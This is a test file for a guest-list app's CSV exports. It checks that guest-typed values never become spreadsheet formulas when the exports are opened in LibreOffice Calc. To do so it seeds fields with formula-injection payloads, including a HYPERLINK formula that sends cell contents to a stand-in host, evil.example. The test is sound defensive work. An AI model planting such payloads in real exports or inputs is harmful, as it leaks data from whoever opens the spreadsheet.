// Every export, opened in a real spreadsheet program (LibreOffice Calc, headless) with the separators people's
// settings give it: comma, semicolon (Excel in much of the world), tab, and all three at once (a common LibreOffice
// import). No cell may become a formula, whatever a guest typed; a phone number is only ever its own quoted text.
// A process of its own (not the fast group): Calc takes about half a second a sheet, and a second or more to start, so
// each way of splitting opens every export in one start of it.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, test } from 'node:test';
import { useTestApp } from '../helpers/app';
import { skipWithoutCalc, throughCalcAll } from '../helpers/calc';
import { guestListSite } from '../helpers/guest-site';

const skip = skipWithoutCalc;

/**
 * The formulas a real spreadsheet program made of each CSV when opened with these separators (ASCII codes, "/"
 * between several: 59 is semicolon, 9 tab), read from the .xlsx it saves: the text of every <f> element.
 */
function formulasWhenSplitOn(csvs: readonly Buffer[], separators: string): string[][] {
  const sheets = throughCalcAll(
    csvs,
    { infilter: `${separators},34,76,1`, convertTo: 'xlsx', extension: 'xlsx' },
    (file) => execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet1.xml'], { encoding: 'utf8' }),
  );
  const entities: Record<string, string> = { '&quot;': '"', '&amp;': '&', '&lt;': '<', '&gt;': '>', '&apos;': "'" };
  return sheets.map((sheet) =>
    [...sheet.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map((match) =>
      (match[1] ?? '').replace(/&(quot|amp|lt|gt|apos);/g, (entity) => entities[entity] ?? entity),
    ),
  );
}

describe('every export, opened with any common separator', { skip }, () => {
  const t = useTestApp({ signedIn: true, site: guestListSite({ askTravel: true }) });
  const as = t.asCouple;
  const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")';

  test('holds no cell that a spreadsheet runs as a formula; a phone number is only ever its own quoted text', async () => {
    const household = (
      await as('POST', '/api/admin/households', {
        name: 'Ram;=2+2',
        phone: '+91 98100 11111',
        notes: `a note\t=3+3;${EVIL}`,
        members: [{ name: 'Sita;=4+4' }, { name: 'Lakshman,+5+5' }],
        events: ['mehendi-ceremony'],
      })
    ).json();
    const [sita, lakshman] = household.members as Array<{ id: number }>;
    assert.ok(sita && lakshman);
    await as('PUT', `/api/admin/households/${household.id}/travelling`, { travelling: true });
    const journey = (memberId: number) => ({
      memberId,
      arrive: { date: '2025-08-30', time: '14:35', mode: 'train', number: '1;=6+6', place: `Jaipur;${EVIL}` },
      pickup: true,
      drop: false,
    });
    const travel = await t.app.inject({
      method: 'PUT',
      url: `/api/invitations/${household.token}/travel`,
      payload: { people: [journey(sita.id), journey(lakshman.id)], stay: 'arranged', needs: `wheelchair;${EVIL}` },
    });
    assert.equal(travel.statusCode, 200, travel.body);
    const answered = await t.app.inject({
      method: 'PUT',
      url: `/api/invitations/${household.token}/response`,
      payload: {
        members: [
          { id: sita.id, events: { 'mehendi-ceremony': true }, dietaryRestrictions: 'no onion;=7+7' },
          { id: lakshman.id, events: { 'mehendi-ceremony': true }, dietaryRestrictions: '\t-8+8' },
        ],
      },
    });
    assert.equal(answered.statusCode, 200, answered.body);
    const hotel = (await as('POST', '/api/admin/stay/places', { name: 'Hotel;=9+9', kind: 'hotel' })).json();
    const room = (await as('POST', `/api/admin/stay/places/${hotel.id}/rooms`, { name: '1;=10+10', beds: 2 })).json();
    await as('POST', `/api/admin/stay/rooms/${room.id}/guests`, { memberIds: [sita.id, lakshman.id] });
    await as('POST', '/api/admin/stay/pickups', {
      memberIds: [sita.id],
      direction: 'arrive',
      driver: 'Ramesh;=11+11',
      driverPhone: '+91 98290 12345',
    });
    await as('POST', '/api/admin/gifts', {
      householdId: household.id,
      from: 'Mama ji;=12+12',
      kind: 'gift',
      description: `a clock\t${EVIL}`,
    });
    await t.app.inject({
      method: 'POST',
      url: '/api/rsvp',
      payload: {
        fullName: 'Ram;=16+16',
        email: 'r@example.com',
        guestCount: 1,
        attending: true,
        dietaryRestrictions: `x;${EVIL}`,
      },
    });

    const exports = [
      '/api/rsvps/download',
      '/api/admin/households.csv',
      '/api/admin/headcounts.csv',
      '/api/admin/gifts.csv',
      '/api/admin/rooming-list.csv',
      '/api/admin/arrivals.csv?date=2025-08-30',
    ];
    const csvs: Buffer[] = [];
    for (const url of exports) {
      const csv = await as('GET', url);
      assert.equal(csv.statusCode, 200, `${url}: ${csv.body}`);
      csvs.push(csv.rawPayload);
    }
    for (const separators of ['44', '59', '9', '44/59/9']) {
      for (const [index, formulas] of formulasWhenSplitOn(csvs, separators).entries()) {
        const unsafe = formulas.filter((formula) => !/^"[0-9+()\-. ]{1,40}"$/.test(formula));
        assert.deepEqual(unsafe, [], `${exports[index]}, opened splitting on ${separators}`);
      }
    }
  });
});
